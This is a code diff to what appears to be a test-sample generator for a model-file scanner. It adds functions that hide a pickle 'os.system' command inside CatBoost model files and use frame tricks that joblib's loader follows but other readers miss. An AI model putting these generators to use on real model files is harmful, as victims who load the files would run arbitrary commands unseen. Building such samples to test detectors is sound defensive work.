@@ -64,6 +64,24 @@ def in_array_bytes_after_odd_spellings(command: str) -> bytes:
 
 
 def in_catboost_padding(command: str) -> bytes:
+    return catboost_with(b"0cos\nsystem\n(S'" + command.encode() + b"'\ntR.")
+
+
+def behind_a_frame_that_is_too_long(command: str) -> bytes:
+    """`pickle.load` gives up at the frame; the unpickler in Python, which joblib uses, takes what there is."""
+    frame = b"\x95" + struct.pack("<Q", 1 << 20)
+    return catboost_with(frame + b"0cos\nsystem\n(S'" + command.encode() + b"'\ntR.")
+
+
+def behind_a_frame_with_an_array(command: str) -> bytes:
+    """joblib takes the array's bytes from behind the frame, and goes on in the frame where others see an array."""
+    hidden = s.run(command)
+    inside = b"0" + s.wrapper(len(hidden)) + hidden
+    return catboost_with(b"\x95" + struct.pack("<Q", len(inside)) + inside + b"x" * len(hidden) + b".")
+
+
+def catboost_with(code: bytes) -> bytes:
+    """A CatBoost file that is a pickle as well, whose instructions stand in its padding."""
     import catboost
 
     X = np.random.default_rng(0).normal(size=(60, 3))
@@ -73,7 +91,7 @@ def in_catboost_padding(command: str) -> bytes:
     body, tail = content[8 : 8 + core], content[8 + core :]
     (root,) = struct.unpack_from("<I", body, 0)
     # `C` is SHORT_BINBYTES and `B` its length, 66: instructions go on at byte 68.
-    padding = b"\0" * (68 - 12) + b"0cos\nsystem\n(S'" + command.encode() + b"'\ntR."
+    padding = b"\0" * (68 - 12) + code
     padding += b"\0" * (-len(padding) % 16)
     core_bytes = struct.pack("<I", root + len(padding)) + padding + body[4:]
     return b"CBM1" + struct.pack("<I", len(core_bytes)) + core_bytes + tail
@@ -86,6 +104,8 @@ POLYGLOTS = [
     (in_array_bytes_by_inst, "pickle", "os.system"),
     (in_array_bytes_after_odd_spellings, "pickle", "os.system"),
     (in_catboost_padding, "pickle", "os.system"),
+    (behind_a_frame_that_is_too_long, "joblib", "past the end of the file"),
+    (behind_a_frame_with_an_array, "joblib", "os.system"),
 ]
 
 
